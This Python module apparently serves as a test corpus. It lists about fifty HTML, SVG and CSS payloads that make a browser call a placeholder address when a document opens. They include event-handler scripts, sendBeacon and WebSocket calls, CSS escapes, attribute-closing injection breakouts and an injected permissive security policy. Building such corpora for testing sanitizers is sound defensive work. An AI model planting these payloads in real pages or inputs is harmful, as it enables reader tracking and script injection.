"""Documents that make a browser call their sender when they are opened: one trick each. URL stands for the address."""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType

__all__ = ["HOSTILE_PAGES"]

CALL = "new Image().src='URL'"  # a script that calls

HOSTILE_PAGES: Mapping[str, str] = MappingProxyType(
    {
        # Leading the browser elsewhere.
        "refresh": '<meta http-equiv="refresh" content="0;url=URL">',
        "refresh within svg": '<svg><desc><meta http-equiv="Refresh" content="0; URL=\'URL\'"></desc></svg>',
        "base and a relative image": '<base href="URL/"><img src="pixel.png">',
        # Loading.
        "image": '<img src="URL">',
        "srcset": '<img srcset="URL 1x, URL 2x">',
        "input of type image": '<input type="image" src="URL">',
        "background of a body": '<body background="URL">text',
        "video poster": '<video poster="URL"></video>',
        "video": '<video autoplay muted preload="auto" src="URL"></video>',
        "subtitles": '<video src="data:,"><track default kind="subtitles" src="URL"></video><script>'
        "document.querySelector('track').track.mode = 'showing'; " + CALL + "</script>",
        "frame": '<iframe src="URL"></iframe>',
        "frameset": '<frameset><frame src="URL"></frameset>',
        "frame in a frame": '<iframe srcdoc="&lt;img src=&quot;URL&quot;&gt;"></iframe>',
        "object": '<object data="URL"></object>',
        "embed": '<embed src="URL">',
        # Links to resources.
        "style sheet": '<link rel="stylesheet" href="URL">',
        "prefetch": '<link rel="prefetch" href="URL">',
        "module preload": '<link rel="modulepreload" href="URL">',
        "link in capitals": '<LINK REL="STYLESHEET" HREF="URL">',
        "link behind a comment that ends at once": '<!--><link rel="stylesheet" href="URL">',
        # Style.
        "css import": "<style>@import url(URL);</style>",
        "css background": '<p style="background: url(URL)">text',
        "css escapes": "<style>p { background: \\75 rl(URL) }</style><p>text",
        "css image-set": '<p style="background-image: image-set(&quot;URL&quot; 1x)">text',
        "font": "<style>@font-face { font-family: f; src: url(URL) } p { font-family: f }</style><p>text",
        # Other languages.
        "svg image": '<svg width="9" height="9"><image href="URL" width="9" height="9"/></svg>',
        "svg filter": '<svg><filter id="f"><feImage href="URL"/></filter>'
        '<rect width="9" height="9" filter="url(#f)"/></svg>',
        "svg script": f"<svg><script>{CALL}</script></svg>",
        "svg script from outside": '<svg><script href="URL"></script></svg>',
        "mathml": '<math><mtext><img src="URL"></mtext></math>',
        # Scripts in every place.
        "script": f"<script>{CALL}</script>",
        "script from outside": '<script src="URL"></script>',
        "script on error": f'<img src="data:," onerror="{CALL}">',
        "script on focus": f'<input autofocus onfocus="{CALL}">',
        "script on animation": "<style>@keyframes a { from { color: red } } p { animation: a 1s }</style>"
        f'<p onanimationstart="{CALL}">text',
        "script in a frame": f'<iframe srcdoc="&lt;script&gt;{CALL}&lt;/script&gt;"></iframe>',
        # Without void, the text that the script returns is the frame's next document, and may end the call.
        "script in a frame's address": f'<iframe src="javascript:void({CALL})"></iframe>',
        "script in an object": "<object data=\"data:text/html,<script>fetch('URL')</script>\"></object>",
        "script that submits a form": '<form action="URL"></form><script>document.forms[0].submit()</script>',
        "script that follows a link with a target": '<a href="URL" target="_top">x</a>'
        "<script>document.links[0].click()</script>",
        "script that opens a window": '<a href="URL" target="_blank">x</a><script>document.links[0].click()</script>',
        "script that beacons": "<script>navigator.sendBeacon('URL')</script>",
        "web socket": "<script>new WebSocket('URL'.replace('http', 'ws'))</script>",
        # Out of the frame.
        "closing the attribute": '"></iframe><img src="URL">',
        "closing everything": "'\"--></title></style></textarea></iframe></html><img src=URL>",
        "a policy of its own": '<meta http-equiv="Content-Security-Policy" content="default-src *"><img src=\'URL\'>',
    }
)
